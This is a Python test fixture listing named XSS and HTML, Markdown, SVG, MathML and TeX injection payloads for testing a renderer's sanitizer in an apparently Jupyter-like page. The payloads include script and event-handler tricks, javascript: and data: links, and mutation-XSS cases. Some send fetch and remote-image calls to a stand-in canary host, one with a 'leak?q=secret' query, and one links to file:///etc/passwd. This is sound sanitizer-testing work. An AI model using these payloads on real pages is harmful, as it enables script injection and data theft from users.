"""Hostile payloads by name, for the tests of the HTML and of the page.

``CANARY`` is an address that must not be requested; ``run()`` is a script that must not run.
"""

from __future__ import annotations

CANARY = "http://canary.invalid"
RUN = f"window.pwned=1;alert(1);fetch('{CANARY}/fetch')"

_FENCE = "`" * 3
_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJ"
    "RU5ErkJggg=="
)

PAYLOADS: dict[str, str] = {
    # raw HTML
    "script": f"<script>{RUN}</script>",
    "script-upper": f"<SCRIPT>{RUN}</SCRIPT>",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-src": f'<script src="{CANARY}/x.js"></script>',
    "script-type": f'<script type="module">{RUN}</script>',
    "script-slash": f"<script/x>{RUN}</script\n>",
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-unclosed": f'<img src=x onerror="{RUN}" ',
    "img-remote": f'<img src="{CANARY}/pixel.gif">',
    "img-srcset": f'<img srcset="{CANARY}/a 1x" src="{CANARY}/b">',
    "details-toggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "input-autofocus": f'<input autofocus onfocus="{RUN}">',
    "video-source": f'<video><source onerror="{RUN}" src="{CANARY}/v"></video>',
    "iframe-src": f'<iframe src="{CANARY}/frame"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{CANARY}/o"></object><embed src="{CANARY}/e">',
    "base": f'<base href="{CANARY}/">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={CANARY}/meta">',
    "link-stylesheet": f'<link rel="stylesheet" href="{CANARY}/style.css">',
    "link-prefetch": f'<link rel="prefetch" href="{CANARY}/prefetch"><link rel="dns-prefetch" href="{CANARY}">',
    "form-action": f'<form action="{CANARY}/form"><input name=q><button>Continue</button></form>',
    "button-formaction": f'<button formaction="javascript:{RUN}">x</button>',
    "template": f"<template><script>{RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "processing-instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "html-entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "null-byte": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "html-in-heading": f"# <img src=x onerror={RUN}>\n\n## <svg onload={RUN}>",
    "html-in-table": f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <svg/onload={RUN}> | `<script>` |",
    "html-in-list": f"- <div onclick={RUN}>\n\n      <script>{RUN}</script>",
    "inline-code-break": f"`</code><script>{RUN}</script>`",
    # CSS
    "style-element": f"<style>@import '{CANARY}/i.css';body{{background:url({CANARY}/bg)}}</style>",
    "style-attribute": f'<div style="position:fixed;inset:0;background:url({CANARY}/s)">cover</div>',
    "style-animation": f'<p style="animation-name:x" onanimationstart="{RUN}">',
    "class-of-the-page": '<div class="jp-Dialog lm-Widget mathjax_process tex2jax_process">x</div>',
    # SVG and MathML
    "svg-onload": f'<svg onload="{RUN}"><circle r=9></svg>',
    "svg-script": f'<svg><script href="data:,{RUN}" /></svg>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}" /><text y=20>x</text></a></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    "math-href": f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x</mi></math>',
    "math-mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    "math-annotation": f'<math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml></math>',
    # links
    "link-javascript": f"[click](javascript:{RUN})",
    "link-case": f"[click](JaVaScRiPt:{RUN})",
    "link-entity": "[click](&#106;avascript&colon;window.pwned=1)",
    "link-tab": "[click](<java\tscript:window.pwned=1>)",
    "link-tab-entity": "[click](java&Tab;script&NewLine;:window.pwned=1)",
    "link-control": "[click](\x01javascript:window.pwned=1)",
    "link-percent": "[click](%6aavascript:window.pwned=1)",
    "link-vbscript": '[click](vbscript:MsgBox("x"))',
    "link-data-html": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "link-data-image": f"[click]({_PNG})",
    "link-data-svg": "[click](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "link-file": "[click](file:///etc/passwd)",
    "link-blob": "[click](blob:http://127.0.0.1/1)",
    "link-relative": "[click](/api/shutdown) [click](../lab?reset) [click](#id)",
    "link-protocol-relative": "[click](//canary.invalid/x) [click](\\\\canary.invalid\\x)",
    "link-title-break": f'[click](http://example.com "\\" onmouseover={RUN} x=\\"")',
    "link-address-break": f'[click](<http://example.com/" onclick="{RUN}>)',
    "link-reference": f"[click][r] [r]\n\n[r]: javascript:{RUN}",
    "link-reference-late": f"[click][r]\n\n[r]: <data:text/html,<script>{RUN}</script>>",
    "link-command": '<a data-commandlinker-command="hub:logout" data-commandlinker-args="{}" href="#">x</a>',
    "link-nested": f"[[inner](javascript:{RUN})](http://example.com)",
    "autolink-javascript": f"<javascript:{RUN}> <JAVASCRIPT:alert(1)> <vbscript:x>",
    "autolink-data": "<data:text/html,<script>window.pwned=1</script>>",
    "bare-address": f'http://example.com/"onmouseover="{RUN} https://example.com/<img/src=x/onerror={RUN}>',
    "bare-userinfo": "https://bank.example@canary.invalid/login http://[::1",
    "unicode-scheme": "[click](javaſcript:window.pwned=1) [click](\u200bjavascript:window.pwned=1)",
    "unicode-brackets": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039img src=x onerror={RUN}\u203a",
    "unicode-direction": "\u202e<tpircs>\u202c ![\u202egnp.exe](https://canary.invalid/x.png)",
    # images
    "image-remote": f"![chart]({CANARY}/leak?q=secret)",
    "image-javascript": f"![x](javascript:{RUN})",
    "image-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image-html": "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "image-alt-break": f'![" onerror="{RUN}]({_PNG})',
    "image-alt-html": f"![<img src=x onerror={RUN}>]({CANARY}/a)",
    "image-source-break": f'![x](<data:image/png;base64,AA" onerror="{RUN}>)',
    "image-in-link": f"[![x]({CANARY}/badge)](javascript:{RUN})",
    "image-reference": f"![x][pic]\n\n[pic]: {CANARY}/reference.png",
    "image-relative": "![x](/static/favicon.ico) ![x](//canary.invalid/x.png)",
    # code
    "fence-info-break": f'{_FENCE}"><img src=x onerror={RUN}>\ncode\n{_FENCE}',
    "fence-info-class": f'{_FENCE}python" class="jp-Dialog" onclick="{RUN}\ncode\n{_FENCE}',
    "fence-content": f"{_FENCE}html\n</code></pre><script>{RUN}</script>\n{_FENCE}",
    "fence-unknown": f"{_FENCE}nolanguage\n<img src=x onerror={RUN}>\n{_FENCE}",
    "fence-unclosed": f"{_FENCE}html\n<script>{RUN}</script>",
    "fence-tilde": f"~~~ <script>{RUN}</script>\n<script>{RUN}</script>\n~~~",
    "indented-code": f"    <script>{RUN}</script>",
    # what scripts of the page look for
    "clobber-ids": "<img name=jupyterapp id=jupyter-config-data><form id=cookie name=querySelector><input name=x>",
    "clobber-heading": "# jupyter-config-data {#jupyter-config-data .jp-Dialog onclick=alert(1)}",
    "config-data": '<script id="jupyter-config-data" type="application/json">{"baseUrl":"//canary.invalid"}</script>',
    "contenteditable": f'<div contenteditable onpaste="{RUN}" draggable=true ondragstart="{RUN}">x</div>',
    "popover": f'<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{RUN}">x</div>',
    # TeX, for us and for the page's own MathJax
    "tex-href": rf"$\href{{javascript:{RUN}}}{{x}}$ and \(\href{{javascript:{RUN}}}{{y}}\)",
    "tex-href-block": "$$\n\\href{javascript:window.pwned=1}{z}\n$$\n\n\\[\n\\href{javascript:window.pwned=1}{z}\n\\]",
    "tex-href-in-code": r"`$\href{javascript:window.pwned=1}{x}$` \\(\href{javascript:window.pwned=1}{x}\\)",
    "tex-href-as-text": "\\$\\href{javascript:window.pwned=1}{x}\\$ $ \\href{javascript:window.pwned=1}{x} $",
    "tex-style": rf"$\style{{position:fixed;background:url({CANARY}/tex)}}{{x}}$",
    "tex-class": r"$\class{jp-Dialog}{x}$ \(\cssId{jupyter-config-data}{x}\)",
    "tex-require": r"$\require{html}\unicode{x3c}$ $$\require{action}\toggle{a}{b}\endtoggle$$",
    "tex-text-html": f"$\\text{{<img src=x onerror={RUN}>}}$ $\\mbox{{</mtext></math><script>{RUN}</script>}}$",
    "tex-entity": "$\\text{&#x3c;img src=x onerror=alert(1)&#x3e;}$ $&lt;script&gt;$",
    "tex-includegraphics": rf"$\includegraphics{{{CANARY}/tex.png}}$",
    "tex-definition": r"$\def\x{\href{javascript:window.pwned=1}{x}}\x$ $\newcommand{\y}{y}\y$",
    "tex-giant": r"$\rule{9999em}{9999em}$ $\hspace{-9999em}\color{red;position:fixed}{x}$",
    "tex-broken": r"$\frac{<script>}{$ \(\begin{matrix} <b> \)",
    "tex-environment": r"\begin{align}\href{javascript:window.pwned=1}{x}\end{align}",
}
